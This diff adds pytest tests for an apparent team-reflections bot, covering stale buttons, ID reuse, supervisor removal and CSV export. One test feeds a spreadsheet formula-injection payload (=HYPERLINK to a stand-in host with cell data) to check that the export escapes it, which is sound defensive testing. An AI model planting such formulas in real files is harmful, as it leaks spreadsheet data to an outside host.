@@ -56,3 +56,67 @@ def test_roles_co_supervisors_leaving_and_choosing_a_team(flows, store, engine):
     assert teams.overview("wyn")[0].text.startswith("That's for a team's supervisors.")
     assert teams.use_team("wyn", 1)[0].text == "You're not in that team."
     assert teams.remove("sup", member["id"])[0].text == "That person isn't in the team any more."
+
+
+def test_ids_are_never_reused_so_an_old_button_cannot_act_on_a_new_thing(flows, store, engine):
+    from outcomes_bot.reflections import Reflections
+
+    teams, code = team_with(flows, store, engine)
+    notes = Reflections(flows, store)
+    first = notes.write("wyn", "First thought")[0].buttons
+    share_first = next(b for row in first for b in row if b.action == "share")
+    notes.delete("wyn", *map(int, next(b for row in first for b in row if b.action == "delete").arg.split(".")))
+    notes.write("wyn", "A second, private thought")
+    rid, team, version = map(int, share_first.arg.split("."))
+    assert notes.share("wyn", rid, team, version, shared=True)[0].text == "That reflection isn't there any more."
+    assert store.count_shared_with(1) == 0
+    old = next(m for m in store.members(1) if m["user"] == "wyn")
+    teams.remove("sup", old["id"])
+    teams.join("olu", "Olu", code)
+    assert teams.remove("sup", old["id"])[0].text == "That person isn't in the team any more."
+    assert store.role(1, "olu") == "worker"
+
+
+def test_a_choice_about_identifying_details_applies_only_to_its_own_draft(flows, store):
+    from outcomes_bot.reflections import Reflections
+
+    notes = Reflections(flows, store)
+    first = notes.write("wyn", "Mrs Jones smiled")[0].buttons
+    old_keep = next(b for row in first for b in row if b.arg.startswith("keep."))
+    notes.write("wyn", "Mr Hughes, 07700 900123")  # a second draft replaces the first
+    choice, nonce = old_keep.arg.split(".")
+    assert notes.resolve("wyn", choice, nonce)[0].text.startswith("That button is out of date")
+    assert store.reflections_of("wyn", 5) == []
+
+
+def test_forget_takes_a_supervisors_name_off_team_things_and_closes_a_leaderless_team(flows, store, engine):
+    teams, code = team_with(flows, store, engine)
+    teams.send_prompt("sup", "What went well?")
+    teams.add_schedule("sup", "weekly mon 09:00 How was the week?")
+    store.forget("sup")
+    assert store.db.execute("SELECT sent_by FROM prompts").fetchall() == [("",)]
+    assert store.db.execute("SELECT created_by FROM schedules").fetchall() == [("",)]
+    assert teams.join("new", "New", code)[0].text.startswith("That join code doesn't work.")
+
+
+def test_the_last_supervisor_cannot_leave_others_behind_and_a_schedule_outlives_its_maker(flows, store, engine):
+    teams, _ = team_with(flows, store, engine)
+    assert teams.leave("sup", 1)[0].text.startswith("You're the only supervisor of Valley Care.")
+    (made,) = teams.add_schedule("sup", "daily 09:00 How did today go?")
+    member = next(m for m in store.members(1) if m["user"] == "wyn")
+    teams.make_cosupervisor("sup", member["id"])
+    assert teams.leave("sup", 1)[0].text.startswith("You've left Valley Care.")
+    store.add_member(1, "olu")
+    sent = teams.fire(made.data["schedule"]["id"])
+    assert [r.to for r in sent if r.to] == ["olu"] and "from Wyn" in sent[0].text
+
+
+def test_exported_cells_never_run_as_spreadsheet_formulas(flows, store, engine):
+    from outcomes_bot.reflections import Reflections
+
+    teams, _ = team_with(flows, store, engine)
+    saved = Reflections(flows, store).write("wyn", '=HYPERLINK("http://x.example/?"&A1,"click")')[0].buttons
+    share = next(b for row in saved for b in row if b.action == "share")
+    Reflections(flows, store).share("wyn", *map(int, share.arg.split(".")), shared=True)
+    content = teams.export("sup")[0].data["content"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in content and "\n=HYPERLINK" not in content and ",=HYPERLINK" not in content
